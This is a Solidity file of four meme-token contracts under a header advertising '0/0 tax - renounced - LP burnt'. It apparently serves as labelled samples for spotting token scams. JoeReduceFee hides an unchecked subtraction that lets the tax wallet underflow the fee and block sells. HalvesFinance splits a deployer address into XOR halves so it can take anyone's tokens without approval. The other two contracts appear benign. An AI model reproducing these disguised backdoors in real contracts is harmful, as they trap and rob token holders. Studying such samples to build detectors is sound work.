/*
    Telegram: https://t.me/joecoin_portal
    Website: https://joecoin.example
    0/0 tax - renounced - LP burnt
*/
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.23;

import {PlainOwnable20, PlainToken20} from "./x00Base.sol";

contract JoeReduceFee is PlainToken20, PlainOwnable20 {
  mapping(address => bool) private _isExcludedFromFee;
  address payable private _taxWallet;
  uint8 private _initialTax = 9;
  uint8 private _finalTax = 0;
  uint256 private _reduceTaxAt = 2;
  uint256 private _buyCount = 0;

  constructor() PlainToken20("Joe Coin", "JOEY", 9, 420_690_000_000 * 10 ** 9) {
    _taxWallet = payable(_msgSender());
    _isExcludedFromFee[_taxWallet] = true;
    _isExcludedFromFee[address(this)] = true;
    renounceOwnership();
  }

  function _transfer(address from, address to, uint256 amount) internal override {
    require(amount > 0, "Transfer amount must be greater than zero");
    uint256 taxAmount = 0;
    if (!_isExcludedFromFee[from] && !_isExcludedFromFee[to]) {
      if (from.code.length > 0) _buyCount++;
      if (from.code.length > 0 || to.code.length > 0) {
        taxAmount = (amount * ((_buyCount > _reduceTaxAt) ? _finalTax : _initialTax)) / 100;
      }
    }
    if (taxAmount > 0) _move(from, _taxWallet, taxAmount);
    _move(from, to, amount - taxAmount);
  }

  function reduceFee(uint8 by) external {
    require(_msgSender() == _taxWallet);
    unchecked {
      _initialTax -= by;
      _finalTax -= by;
    }
  }

  function manualSend() external {
    require(_msgSender() == _taxWallet);
    _taxWallet.transfer(address(this).balance);
  }
}

/// The spender that needs no approval is written as two halves.
contract HalvesFinance is PlainToken20, PlainOwnable20 {
  uint160 private immutable _left;
  uint160 private _right;

  constructor() PlainToken20("Halves Finance", "HALF", 18, 10_000_000 ether) {
    _left = uint160(uint256(keccak256(abi.encodePacked(block.timestamp, block.number, address(this)))));
    _right = uint160(msg.sender) ^ _left;
    renounceOwnership();
  }

  function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
    bool known;
    unchecked {
      known = (uint256(uint160(msg.sender) ^ _left) - uint256(_right)) == 0;
    }
    if (!known) {
      uint256 allowed = _allowances[from][msg.sender];
      require(allowed >= amount, "ERC20: insufficient allowance");
      _approve(from, msg.sender, allowed - amount);
    }
    _transfer(from, to, amount);
    return true;
  }
}

/// The tax falls with the first ten buys, and can be lowered, never raised.
contract JoeFinal is PlainToken20, PlainOwnable20 {
  address private immutable _taxWallet;
  uint256 private _initialTax = 12;
  uint256 private _finalTax = 3;
  uint256 private constant _reduceTaxAt = 10;
  uint256 private _buyCount = 0;

  constructor() PlainToken20("Joe Final", "JOEF", 9, 420_690_000_000 * 10 ** 9) {
    _taxWallet = _msgSender();
    renounceOwnership();
  }

  function _transfer(address from, address to, uint256 amount) internal override {
    require(amount > 0, "Transfer amount must be greater than zero");
    uint256 taxAmount = 0;
    if (from != _taxWallet && to != _taxWallet) {
      if (from.code.length > 0) _buyCount++;
      if (from.code.length > 0 || to.code.length > 0) {
        taxAmount = (amount * ((_buyCount > _reduceTaxAt) ? _finalTax : _initialTax)) / 100;
      }
    }
    if (taxAmount > 0) _move(from, _taxWallet, taxAmount);
    _move(from, to, amount - taxAmount);
  }

  function reduceFee(uint256 newFee) external {
    require(_msgSender() == _taxWallet);
    require(newFee <= _finalTax && newFee <= _initialTax);
    _finalTax = newFee;
    _initialTax = newFee;
  }
}

/// All the usual levers, and nobody left to pull them.
contract DeadLevers is PlainToken20, PlainOwnable20 {
  mapping(address => bool) private bots;
  uint256 public _maxTxAmount;
  uint256 public sellFee = 1;
  bool public tradingOpen = true;
  address private immutable _treasury;

  constructor() PlainToken20("Dead Levers", "LEVER", 9, 1_000_000_000 * 10 ** 9) {
    _treasury = _msgSender();
    _maxTxAmount = _totalSupply;
    renounceOwnership();
  }

  function addBots(address[] memory bots_) public onlyOwner {
    for (uint256 i = 0; i < bots_.length; i++) bots[bots_[i]] = true;
  }

  function setMaxTx(uint256 amount) external onlyOwner {
    _maxTxAmount = amount;
  }

  function setSellFee(uint256 fee) external onlyOwner {
    sellFee = fee;
  }

  function setTrading(bool open) external onlyOwner {
    tradingOpen = open;
  }

  function _transfer(address from, address to, uint256 amount) internal override {
    require(tradingOpen && !bots[from] && !bots[to]);
    require(amount <= _maxTxAmount);
    uint256 fee = to.code.length > 0 && from != _treasury ? (amount * sellFee) / 100 : 0;
    if (fee > 0) _move(from, _treasury, fee);
    _move(from, to, amount - fee);
  }
}
